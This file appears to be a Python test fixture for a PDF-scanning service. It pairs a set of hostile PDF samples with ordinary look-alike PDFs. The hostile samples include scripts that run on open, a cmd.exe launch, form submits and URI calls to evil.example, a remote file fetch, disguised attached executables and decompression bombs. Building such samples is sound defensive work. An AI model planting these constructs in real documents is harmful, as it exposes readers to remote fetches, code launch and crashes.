"""PDFs that act when they are opened, and ordinary ones that look a little like them."""

import zlib
from base64 import a85encode

from tests.services.documents_of import packed_objects, pdf, stream

SCRIPT = b"<< /S /JavaScript /JS (app.alert) >>"
FETCH = b"<< /S /URI /URI (http://evil.example) >>"
CLICK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>"
START = b"<< /Type /Catalog /OpenAction %s >>"
ATTACHED = b"<< /Type /Filespec /F (%s) /EF << /F 2 0 R >> >>"
UTF16 = b"\xfe\xff" + "run.exe".encode("utf-16-be")
HOSTILE_PDFS = {
    "a packed script": pdf(packed_objects(SCRIPT)),
    "a packed script by a spelled name": pdf(packed_objects(b"<< /S /J#61vaScript >>")),
    "a script in a stream of a spelled name": pdf(packed_objects(SCRIPT, told=b"/Type /Obj#53tm")),
    "a script in a stream of no name": pdf(packed_objects(SCRIPT, told=b"/Type /Other")),
    "a packed program start": pdf(packed_objects(b"<< /S /Launch /F (cmd.exe) >>")),
    "packed rich media": pdf(packed_objects(b"<< /Subtype /RichMedia >>")),
    "a script far inside": pdf(packed_objects(b"(" + bytes(3_000_000) + b")", SCRIPT)),
    "objects packed twice": pdf(packed_objects(SCRIPT, pack=lambda one: zlib.compress(a85encode(one)))),
    "objects in letters": pdf(packed_objects(SCRIPT, told=b"/Type /ObjStm /Filter /ASCII85Decode", pack=a85encode)),
    "objects that break off": pdf(packed_objects(SCRIPT, pack=lambda one: zlib.compress(one)[:-9])),
    "encrypted objects": pdf(packed_objects(SCRIPT, pack=lambda one: bytes(255 - byte for byte in one))),
    "a bomb of objects": pdf(packed_objects(b"(" + bytes(70_000_000) + b")")),
    "an address at once": pdf(START % FETCH), "an address at once elsewhere": pdf(START % b"2 0 R", FETCH),
    "a packed address at once": pdf(packed_objects(START % b"12 0 R", FETCH)),
    "an address packed apart": pdf(START % b"11 0 R", packed_objects(FETCH)),
    "an address on a page": pdf(b"<< /Type /Page /AA << /O %s >> >>" % FETCH),
    "a form sent at once": pdf(START % b"<< /S /SubmitForm /F (http://evil.example) >>"),
    "a file from elsewhere at once": pdf(START % rb"<< /S /GoToR /F (\\\\evil\\x.pdf) >>"),
    "an attached program": pdf(ATTACHED % b"run.exe"), "an attached page": pdf(ATTACHED % b"a.HTML"),
    "an attached program in two bytes": pdf(ATTACHED % UTF16),
    "an attached program in digits": pdf(b"<< /UF <%s> /EF << /F 2 0 R >> >>" % UTF16.hex().encode()),
    "a packed attachment": pdf(packed_objects(ATTACHED % b"run.ps1")),
    "a program by another name": pdf(ATTACHED % b"a.txt", stream(b"MZ\x90" + bytes(99), b"/Type /EmbeddedFile")),
    "too many streams": pdf(more=b"stream\n" * 200_000),
    "too many numbers for letters": pdf(more=b"#41" * 4_000_000),
    "too many beginnings": pdf(more=b"/AA<<" * 4_000_000),
    "too many first actions": pdf(more=b"".join(b"/OpenAction %d 0 R" % number for number in range(99_999))),
    "an object told too often": pdf(START % b"5 0 R", more=b"5 0 obj " * 2_000_000),
    "too many attachments": pdf(more=b"/EF" + b"/F(a" * 4_000_000 + b"/F(a)" * 2_000),
}
ORDINARY_PDFS = (
    pdf(CLICK), pdf(packed_objects(CLICK, b"<< /Type /Catalog >>")), pdf(START % b"[3 0 R /FitH null]", CLICK),
    pdf(START % b"2 0 R", b"<< /S /GoTo /D [3 0 R /Fit] >>", CLICK),
    pdf(packed_objects(START % b"12 0 R", b"[3 0 R]", CLICK)),
    pdf(stream(b"1 0 0 1 72 720 cm BT /F1 12 Tf (a) Tj ET")), pdf(stream(b"\xff\xd8\xff" + bytes(99), b"", bytes)),
    pdf(ATTACHED % b"invoice.xml", stream(b"<x/>", b"/Type /EmbeddedFile")),
    pdf(ATTACHED % b"draft.docx"), pdf(b"<< /F (program.exe) >>"), pdf(stream(b"0 " * 20_000_000)),
    pdf(packed_objects(b"<< /Type /Page >>", told=b"/Type /ObjStm", pack=bytes)),
)
